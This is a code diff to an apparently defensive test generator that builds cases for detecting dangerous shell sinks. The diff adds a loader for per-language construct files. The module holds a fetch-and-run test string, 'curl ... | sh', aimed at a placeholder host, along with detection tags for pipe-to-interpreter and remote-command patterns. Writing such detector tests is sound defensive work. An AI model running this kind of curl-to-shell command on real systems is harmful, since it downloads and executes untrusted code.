@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import random
 from dataclasses import dataclass, field
+from pathlib import Path
 from typing import TYPE_CHECKING
 
 if TYPE_CHECKING:
@@ -12,6 +13,7 @@ if TYPE_CHECKING:
 COMMAND = "curl http://files.example/x|sh"
 """The shell text of ``spawn`` sinks; the sandbox's curl prints ``echo>ran``."""
 
+_WAYS = Path(__file__).with_name("ways")
 _STARTS = frozenset({"process.spawn", "process.dynamic-command", "process.unknown-command", "process.remote-command"})
 TELLS: dict[str, frozenset[str]] = {
     "spawn": _STARTS | {"network.pipe-to-interpreter"},
@@ -109,6 +111,16 @@ class Case:
                 return
             if fits(self.construct, sink):
                 yield Case(self.grammar, self.construct, sink, plain)
+
+
+def written(language: str) -> list[Construct]:
+    """Return the constructs of a language that stand in a file, one a line: the kinds of sinks, a colon, the text with ``⏎`` for a line's end."""
+    lines = (_WAYS / f"{language}.txt").read_text().splitlines()
+    split = (line.partition(": ") for line in lines)
+    return [
+        Construct(text.replace("⏎", "\n"), () if kinds == "all" else tuple(kinds.split(",")))
+        for kinds, _, text in split
+    ]
 
 
 def fits(construct: Construct, sink: Sink) -> bool:
